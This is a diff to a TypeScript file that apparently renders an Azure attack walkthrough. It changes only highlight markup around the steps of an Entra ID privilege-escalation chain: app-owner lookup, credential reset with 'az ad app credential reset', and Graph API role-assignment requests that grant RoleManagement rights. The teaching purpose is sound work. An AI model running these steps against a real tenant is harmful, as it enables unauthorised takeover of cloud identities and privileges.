@@ -21,7 +21,7 @@ export const azurePath: AttackPath = {
       lines: [
         '$ az ad app owner list --id 3f2a[...] \\',
         '    --query "[].userPrincipalName" -o tsv',
-        '{+helpdesk.lead@kestrel.example+}',
+        '{!helpdesk.lead@kestrel.example!}',
       ],
     },
     {
@@ -32,7 +32,7 @@ export const azurePath: AttackPath = {
       lines: [
         '$ az ad app credential reset --id {-3f2a[...]-} --append {#1}',
         '{ "appId": "3f2a[...]",',
-        '  "password": {+"[redacted]"+} }',
+        '  "password": {!"[redacted]"!} }',
       ],
       notes: ['owners can do this; everyone forgot she was one'],
       after: [
@@ -49,7 +49,7 @@ export const azurePath: AttackPath = {
         'GET /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
         '',
         'HTTP/2 200',
-        '"appRoleId": {+"06b708a9-e830-4db3-a914-8e69da51d44f"+}',
+        '"appRoleId": {!"06b708a9-e830-4db3-a914-8e69da51d44f"!}',
         '# AppRoleAssignment.ReadWrite.All',
       ],
       after: [
@@ -68,7 +68,7 @@ export const azurePath: AttackPath = {
         'POST /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
         '{ "appRoleId": {-"9e3f62cf-[RoleManagement.ReadWrite]"-} }',
         '',
-        'HTTP/2 {+201+}',
+        'HTTP/2 {!201!}',
       ],
       after: [
         'POST /v1.0/servicePrincipals/9c41[...]/appRoleAssignments',
